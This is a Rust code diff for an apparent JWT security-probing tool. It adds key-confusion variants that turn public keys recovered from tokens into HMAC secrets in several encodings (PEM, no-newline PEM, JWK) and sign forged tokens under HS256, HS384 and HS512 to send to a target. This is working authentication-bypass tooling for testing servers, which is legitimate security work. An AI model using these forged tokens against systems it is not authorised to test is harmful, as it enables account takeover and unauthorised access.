@@ -7,6 +7,7 @@ use std::time::Duration;
 
 use super::jku_host::JkuHost;
 use super::probe::{JkuNote, Placement, ProbeReport, ProbeTarget, ProbeVariant};
+use super::recover::Candidate;
 use super::{Decoded, ForgeOptions, JwtError};
 
 /// Everything a probe needs.
@@ -24,6 +25,9 @@ pub struct ProbeSetup {
     pub ca_pem: Option<Vec<u8>>,
     /// The time claims are compared against, unix seconds.
     pub now: i64,
+    /// Public keys recovered from the tokens (`jwt recover-key`): each is tried as the HMAC
+    /// secret of HS256/384/512 in every encoding a server may hold it in.
+    pub recovered: Vec<Candidate>,
 }
 
 /// Why a probe could not start. Each is one sentence, and bad input rather than a verdict.
@@ -58,6 +62,7 @@ impl ProbeSetup {
             insecure: false,
             ca_pem: None,
             now,
+            recovered: Vec::new(),
         }
     }
 
@@ -118,7 +123,15 @@ pub async fn run(
         insecure,
         ca_pem,
         now,
+        recovered,
     } = setup;
+    let recovered: Vec<Candidate> = recovered.into_iter().filter(|c| c.verifies).collect();
+    // The forge's own key-confusion variant takes the first recovered key's SPKI PEM, so the
+    // report does not list key-confusion as not sent; the other encodings are added below.
+    let forge_made_first = options.public_key_pem.is_none() && !recovered.is_empty();
+    if forge_made_first {
+        options.public_key_pem = Some(recovered[0].spki_pem.clone());
+    }
     let client = crate::net::build_client(&crate::net::ClientOptions {
         timeout: target.timeout,
         insecure,
@@ -167,7 +180,7 @@ pub async fn run(
             fetched: Vec::new(),
         });
     }
-    let variants: Vec<ProbeVariant> = forged
+    let mut variants: Vec<ProbeVariant> = forged
         .into_iter()
         .map(|v| ProbeVariant {
             attack: v.attack.to_string(),
@@ -175,6 +188,12 @@ pub async fn run(
             token: v.token,
         })
         .collect();
+    variants.extend(recovered_variants(
+        &original,
+        &options,
+        &recovered,
+        forge_made_first,
+    )?);
     let total = variants.len() + 2;
     let report = super::probe::probe(&client, &target, &original.raw, &variants, |sent| {
         on_sent(sent, total)
@@ -186,6 +205,73 @@ pub async fn run(
     let mut report = report.complete(&options, &original, now);
     report.jku = note;
     Ok(report)
+}
+
+/// The encodings a server may hold a public key in and use, byte for byte, as an HMAC secret.
+fn encodings(key: &Candidate) -> Vec<(&'static str, String)> {
+    let mut out = Vec::new();
+    let mut pem = |name: &'static str, bare: &'static str, text: &str| {
+        out.push((name, text.to_string()));
+        out.push((bare, text.trim_end_matches('\n').to_string()));
+    };
+    pem("spki-pem", "spki-pem-no-newline", &key.spki_pem);
+    if let Some(pkcs1) = &key.pkcs1_pem {
+        pem("pkcs1-pem", "pkcs1-pem-no-newline", pkcs1);
+    }
+    out.push(("jwk", key.jwk.to_string()));
+    out
+}
+
+/// Key confusion with each recovered key, in each encoding, under HS256, HS384 and HS512.
+/// The forge makes each token (claim edits included) through its key-confusion variant; the
+/// other HMAC sizes re-sign its header and payload. `skip_first`: the forge already sent the
+/// first key's SPKI PEM under its own HMAC alg.
+fn recovered_variants(
+    original: &Decoded,
+    options: &ForgeOptions,
+    keys: &[Candidate],
+    skip_first: bool,
+) -> Result<Vec<ProbeVariant>, ProbeError> {
+    let mut out = Vec::new();
+    for (i, key) in keys.iter().enumerate() {
+        for (encoding, text) in encodings(key) {
+            let opts = ForgeOptions {
+                public_key_pem: Some(text.clone()),
+                ..options.clone()
+            };
+            let base = super::forge_one("key-confusion", original, &opts)?;
+            let forged = super::decode(&base.token)?;
+            let payload_b64 = base.token.split('.').nth(1).unwrap_or_default();
+            for alg in ["HS256", "HS384", "HS512"] {
+                let own = forged.alg.as_deref() == Some(alg);
+                if skip_first && i == 0 && encoding == "spki-pem" && own {
+                    continue;
+                }
+                let token = if own {
+                    base.token.clone()
+                } else {
+                    let mut header = forged.header.clone();
+                    header.insert("alg".into(), alg.into());
+                    super::sign::sign_payload_b64(
+                        &header,
+                        payload_b64,
+                        alg,
+                        &super::SigningKey::Secret(text.as_bytes().to_vec()),
+                    )?
+                };
+                out.push(ProbeVariant {
+                    attack: "key-confusion".into(),
+                    explanation: format!(
+                        "{alg} keyed with recovered key {} ({}) as {encoding}",
+                        i + 1,
+                        key.thumbprint
+                    ),
+                    token,
+                });
+            }
+        }
+    }
+    Ok(out)
 }
 
 /// Whether a URL points at this machine: localhost or a loopback address.
